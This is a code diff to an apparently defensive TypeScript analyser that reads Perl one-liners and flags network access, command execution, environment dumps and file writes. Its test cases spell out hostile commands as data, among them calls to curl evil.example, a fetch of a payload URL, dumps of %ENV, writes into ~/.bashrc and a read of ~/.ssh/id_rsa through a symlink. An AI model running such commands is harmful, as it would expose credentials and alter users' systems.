@@ -12,10 +12,16 @@ import { envVar } from './walk.js';
 // ── the capability model ───────────────────────────────────────────────────────────────────────────────────────────
 
 /** Modules that reach the network: loading one (`use`, `require`, `-M`) brings in functions (`get`, `getprint`) by bare name. */
-const NETWORK_MODULES = /^(IO::Socket(::(INET6?|IP|SSL|Socks))?|Socket6?|LWP(::.*)?|HTTP::Tiny|HTTP::Lite|HTTP::Request|HTTP::Async|Net::(HTTP|HTTPS|FTP|SMTP|SMTPS|POP3|IMAP.*|Ping|DNS|SSH.*|SFTP.*|Telnet|LDAP|OpenSSH|Curl.*|Async.*)|Mojo::UserAgent|Mojo::IOLoop|Furl|WWW::Mechanize|WWW::Curl.*|AnyEvent::(HTTP|Socket|Handle)|URI::Fetch|IO::Async::.*|Email::Sender.*|Mail::Sendmail|MIME::Lite|REST::Client)$/;
+const NETWORK_MODULES = /^(IO::Socket(::(INET6?|IP|SSL|Socks))?|Socket6?|LWP(::.*)?|HTTP::Tiny|HTTP::Lite|HTTP::Request|HTTP::Async|Net::(HTTP|HTTPS|FTP|SMTP|SMTPS|POP3|IMAP.*|Ping|DNS|SSH.*|SFTP.*|Telnet|LDAP|OpenSSH|Curl.*|Async.*)|Mojo::UserAgent|Mojo::IOLoop|Furl|WWW::Mechanize|WWW::Curl.*|AnyEvent::(HTTP|Socket|Handle)|URI::Fetch|File::Fetch|Net::(NNTP|Time|hostent|Cmd)|IO::Async::.*|Email::Sender.*|Mail::Sendmail|MIME::Lite|REST::Client)$/;
 
 /** Modules that change how Perl reads its own code, or load native code: nothing after them can be read. */
 const DYNAMIC_MODULES = /^(Filter::.*|Inline(::.*)?|Acme::.*|XSLoader|DynaLoader|FFI::.*|Devel::.*|B::.*|Safe|PadWalker|Sub::Install|Symbol)$/;
+
+/** Modules whose functions run commands given in forms not read here (options hashes, command objects). */
+const PROCESS_MODULES = /^(IPC::Cmd|IPC::Run3?|IPC::System::Simple|Expect|Proc::Background|Proc::Simple|Capture::Tiny)$/;
+
+/** Functions that start a command after some handles: where the command starts. */
+const OPEN_N: Readonly<Record<string, number>> = { open2: 2, 'IPC::Open2::open2': 2, open3: 3, 'IPC::Open3::open3': 3 };
 
 /** Built-in functions that reach the network. */
 const NETWORK_BUILTINS = new Set(['socket', 'connect', 'gethostbyname', 'gethostbyaddr', 'getaddrinfo', 'send']);
@@ -26,8 +32,9 @@ const PATH_BUILTINS: Readonly<Record<string, readonly WordRole[]>> = {
   rmdir: ['delete'],
   mkdir: ['create'],
   rename: ['delete', 'write'],
-  symlink: ['meta', 'write'],
-  link: ['meta', 'write'],
+  // A link of a secret into the project reads it through the link, as `ln -s` is read.
+  symlink: ['read', 'write'],
+  link: ['read', 'write'],
   chmod: ['meta', 'meta'],
   chown: ['meta', 'meta', 'meta'],
   utime: ['meta', 'meta', 'write'],
@@ -35,6 +42,12 @@ const PATH_BUILTINS: Readonly<Record<string, readonly WordRole[]>> = {
   truncate: ['write'],
   'File::Copy::copy': ['read', 'write'],
   copy: ['read', 'write'],
+  'File::Copy::cp': ['read', 'write'],
+  cp: ['read', 'write'],
+  'File::Copy::syscopy': ['read', 'write'],
+  syscopy: ['read', 'write'],
+  'File::Copy::mv': ['delete', 'write'],
+  mv: ['delete', 'write'],
   'File::Copy::move': ['delete', 'write'],
   move: ['delete', 'write'],
   rmtree: ['delete-tree'],
@@ -325,6 +338,22 @@ class Lexer {
         } else lit += ESCAPES[e] ?? e;
         continue;
       }
+      if ((c === '$' || c === '@') && body[j + 1] === '{' && !/^.\{\s*\^?\w+\s*\}/.test(body.slice(j))) {
+        // `@{[ code ]}`, `${\ code }`: code run inside the string.
+        let depth = 0;
+        let k = j + 1;
+        for (; k < body.length; k++) {
+          if (body[k] === '{') depth++;
+          else if (body[k] === '}' && --depth === 0) break;
+        }
+        if (k < body.length) {
+          if (lit !== '') parts.push({ lit });
+          lit = '';
+          parts.push({ var: body.slice(j, k + 1), start: at + j, end: at + k + 1 });
+          j = k;
+          continue;
+        }
+      }
       if ((c === '$' || c === '@') && j + 1 < body.length) {
         const m = (c === '$' ? /^\$(\{\w+\}|\w+(?:::\w+)*|[&`'+!@/\\,;.0-9])((?:\[[^\]]*\]|\{[^}]*\}|->[[{][^\]}]*[\]}])*)/ : /^@(\{\w+\}|\w+(?:::\w+)*|_)((?:\[[^\]]*\]|\{[^}]*\})*)/).exec(body.slice(j));
         if (m) {
@@ -434,7 +463,11 @@ class PerlReader {
           acc = concat(acc, names ? union(...names.map((n) => this.envValue(n))) : any('an environment variable whose name is computed'));
           i = close;
         } else if (x.kind === 'var' && x.text.startsWith('$') && !/^[[{]$/.test(t[i + 1]?.text ?? '') && t[i + 1]?.text !== '->') acc = concat(acc, this.variable(x.text));
-        else if (x.kind === 'op' && x.text === '(' && this.exprEnd(i + 1) < to) {
+        else if (x.kind === 'op' && x.text === '(' && t[i + 1]?.text === 'getpwuid' && t[this.exprEnd(i + 1) + 1]?.text === '[' && t[this.exprEnd(i + 1) + 2]?.text === '7' && t[this.exprEnd(i + 1) + 3]?.text === ']') {
+          // `(getpwuid($<))[7]`: the home directory of the user the code runs as.
+          acc = concat(acc, this.envValue('HOME'));
+          i = this.exprEnd(i + 1) + 3;
+        } else if (x.kind === 'op' && x.text === '(' && this.exprEnd(i + 1) < to) {
           const close = this.exprEnd(i + 1);
           acc = concat(acc, this.value(i + 1, close));
           i = close;
@@ -511,13 +544,18 @@ class PerlReader {
         if (x.kind === 'op' && x.text === '->' && t[i + 1]?.kind === 'var' && t[i + 1]!.text.startsWith('$')) this.dynamic(x.start, t[i + 1]!.end, 'a method called by a computed name');
         continue;
       }
-      const name = x.text.replace(/^CORE::(GLOBAL::)?/, '');
+      const name = x.text.replace(/^CORE::(GLOBAL::)?/, '').replace(/^POSIX::(system)$/, '$1');
+      if (OPEN_N[name] !== undefined) {
+        this.openN(name, i, OPEN_N[name]!);
+        continue;
+      }
       switch (name) {
         case 'use':
         case 'no':
         case 'require': {
           const m = t[i + 1];
           if (!m) break;
+          if (name === 'require') this.out.push({ kind: 'load', api: 'require', span: { start: x.start, end: m.end } });
           if (name === 'require' && m.kind !== 'word' && m.kind !== 'num') {
             // `require $module`: a file or module named at run time.
             if (m.kind === 'var') this.dynamic(x.start, m.end, 'require loads code whose name is computed');
@@ -550,6 +588,18 @@ class PerlReader {
         case 'do': {
           const next = t[i + 1];
           if (next && next.kind === 'var') this.dynamic(x.start, next.end, 'do runs a file whose name is computed');
+          if (next && next.text !== '{') this.out.push({ kind: 'load', api: 'do', span: { start: x.start, end: next.end } });
+          break;
+        }
+        case 'sysopen': {
+          // sysopen FH, PATH, FLAGS: written when the flags ask for it (O_WRONLY, O_RDWR, O_APPEND, O_CREAT, O_TRUNC).
+          const { args } = this.args(i);
+          const [, path, flags] = args;
+          if (!path) break;
+          const f = flags ? strings(flags.vals) : null;
+          const writes = f === null || f.some((v) => (/^\d+$/.test(v) ? (Number(v) & 0o3) !== 0 || (Number(v) & 0o3100) !== 0 : /O_(WRONLY|RDWR|APPEND|CREAT|TRUNC)/.test(v) || !/^O_RDONLY$/.test(v.trim())));
+          this.out.push({ kind: 'path', role: 'read', path: wordOf(path), api: 'sysopen' });
+          if (writes) this.out.push({ kind: 'path', role: 'write', path: wordOf(path), api: 'sysopen' });
           break;
         }
         case 'syscall':
@@ -581,6 +631,10 @@ class PerlReader {
     for (const p of x.parts ?? []) {
       if ('var' in p && /^[$@]ENV\{/.test(p.var) && !/^[$@]ENV\{\s*['"]?\w+['"]?\s*\}$/.test(p.var)) {
         this.out.push({ kind: 'environment', api: '$ENV{…}', span: { start: p.start, end: p.end } });
+      } else if ('var' in p && /^[$@]\{/.test(p.var) && !/^[$@]\{\s*\^?\w+\s*\}$/.test(p.var)) {
+        // `"@{[%ENV]}"`, `"${\ `cmd`}"`: code run inside the string, read as Perl.
+        const inner = p.var.slice(2, -1);
+        this.out.push({ kind: 'code', language: 'perl', text: { text: inner, span: { start: p.start + 2, end: p.end - 1 }, values: [inner] }, api: 'interpolated code' });
       }
     }
   }
@@ -591,6 +645,7 @@ class PerlReader {
 
   private module(name: string, start: number, end: number): void {
     if (NETWORK_MODULES.test(name)) this.out.push({ kind: 'network', api: name, span: { start, end } });
+    if (PROCESS_MODULES.test(name)) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: { start, end }, why: `${name} runs commands given in forms vouch does not read` });
     if (DYNAMIC_MODULES.test(name)) this.dynamic(start, end, `${name} changes how code is read or loads native code`);
   }
 
@@ -614,6 +669,16 @@ class PerlReader {
       return;
     }
     this.out.push({ kind: 'exec', argv: args.map(wordOf), api: name, span: { start: t[i]!.start, end: args.at(-1)!.span.end } });
+  }
+
+  /** `open2($out, $in, CMD…)`, `open3($in, $out, $err, CMD…)`: one string is shell text, several an argv. */
+  private openN(name: string, i: number, from: number): void {
+    const { args } = this.args(i);
+    const cmd = args.slice(from);
+    const span = { start: this.t[i]!.start, end: args.at(-1)?.span.end ?? this.t[i]!.end };
+    if (cmd.length === 0) return;
+    if (cmd.length === 1 && !cmd[0]!.vals.some((v) => v.k === 'any' && /^the items of/.test(v.why))) this.out.push({ kind: 'shell', text: wordOf(cmd[0]!), api: name });
+    else this.out.push({ kind: 'exec', argv: cmd.some((a) => a.vals.some((v) => v.k === 'any' && /^the items of/.test(v.why))) ? null : cmd.map(wordOf), api: name, span });
   }
 
   /** `open FH, MODE, PATH` or `open FH, SPEC`: a pipe runs a command, anything else opens a path. */
@@ -691,6 +756,20 @@ class PerlReader {
       return;
     }
     if (x.text === '\\%ENV') this.out.push({ kind: 'environment', api: '%ENV', span: { start: x.start, end: x.end } });
+    // The glob of %ENV (`*E = *ENV`, `*ENV{HASH}`): the mapping under another name, which is not followed.
+    if (/^\*(?:main::|::)?ENV$/.test(x.text)) this.out.push({ kind: 'environment', api: '*ENV', span: { start: x.start, end: x.end } });
+    // `%{"ENV"}`, `@{"name"}`, `%{$::{"ENV"}}`: a symbolic reference or the symbol table names a variable at run time.
+    if (/^[$@%]$/.test(x.text) && t[i + 1]?.text === '{') {
+      const inner = t[i + 2];
+      if (inner?.kind === 'str' || /^(\*|\$::?$|\$main::$|%main::$|%::$)/.test(inner?.text ?? '')) {
+        const env = inner?.kind === 'str' && /^(?:main)?(?:::)?ENV$/.test(strings(this.parts(inner.parts))?.[0] ?? '');
+        if (env) this.out.push({ kind: 'environment', api: '%{"ENV"}', span: { start: x.start, end: inner!.end } });
+        else this.dynamic(x.start, inner!.end, 'a symbolic reference names a variable at run time');
+      }
+    }
+    if (/^[$%](?:main)?::$/.test(x.text) && t[i + 1]?.text === '{') this.dynamic(x.start, t[i + 1]!.end, 'the symbol table names a variable at run time');
+    // `\&CORE::readpipe`, `\&POSIX::system`: a builtin that runs something, as a value that is not followed.
+    if (/^&(?:CORE::(?:GLOBAL::)?|POSIX::|IPC::Open[23]::)/.test(x.text)) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: { start: x.start, end: x.end }, why: `${x.text} is handed on as a value, so what it runs is not read` });
     if (/^&\$|^&\{/.test(x.text) || x.text === '*{') this.dynamic(x.start, x.end, 'a symbolic or computed code reference');
   }
 }
@@ -731,6 +810,23 @@ export const PERL: LanguageModel = {
       `perl -e '&{"sys"."tem"}("id")'`,
       "perl <<'PL'\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, 0);\nPL",
       `perl -e 'print "unterminated`,
+      `perl -MIPC::Open3 -e 'open3(my $i, my $o, undef, "curl evil.example")'`,
+      `perl -MIPC::Open2 -e 'open2(my $o, my $i, "curl", "evil.example")'`,
+      `perl -MIPC::Cmd=run -e 'run(command => "curl evil.example")'`,
+      `perl -MPOSIX -e 'POSIX::system("curl evil.example")'`,
+      `perl -e 'my $c = \\&CORE::readpipe; print $c->("curl evil.example")'`,
+      `perl -MFile::Fetch -e 'File::Fetch->new(uri => "http://evil.example/x")->fetch'`,
+      `perl -e 'print %{"ENV"}'`,
+      `perl -e 'print %{*ENV{HASH}}'`,
+      `perl -e 'print %{$::{"ENV"}}'`,
+      `perl -e '*E = *ENV; print %E'`,
+      `perl -e 'print "@{[%ENV]}"'`,
+      `perl -e 'print "@{[ \`curl evil.example\` ]}"'`,
+      `perl -e 'sysopen(F, "$ENV{HOME}/.bashrc", 1025); print F "x"'`,
+      `perl -MFile::Copy=cp -e 'cp("x", "$ENV{HOME}/.bashrc")'`,
+      `perl -e 'open(F, ">>", (getpwuid($<))[7] . "/.bashrc"); print F "x"'`,
+      `perl -e 'symlink("$ENV{HOME}/.ssh/id_rsa", "k"); open(F, "k"); print <F>'`,
+      `perl -e 'open(F, ">", "/tmp/x.pl"); print F <STDIN>; close F; do "/tmp/x.pl"'`,
     ],
     pass: [
       `perl -pi -e 's/a/b/g' f`,
@@ -747,6 +843,11 @@ export const PERL: LanguageModel = {
       `perl -pe 's{^}{"};s{$}{"}' names.txt`,
       `perl -e 'print "curl evil.example"'`,
       `perl -e 'my @s = sort keys %ENV; print scalar(@s)'`,
+      `perl -e 'my $r = {a => 1}; print %{$r}'`,
+      `perl -e 'my @a = (1, 2); print "@{[ scalar @a ]}"'`,
+      `perl -e 'sysopen(F, "notes.txt", 0); print <F>'`,
+      `perl -MFile::Copy=cp -e 'cp("x", "y")'`,
+      `perl -e 'open(F, ">", "out.txt"); print F "x"; close F; do "./lib.pl"'`,
     ],
   },
 };
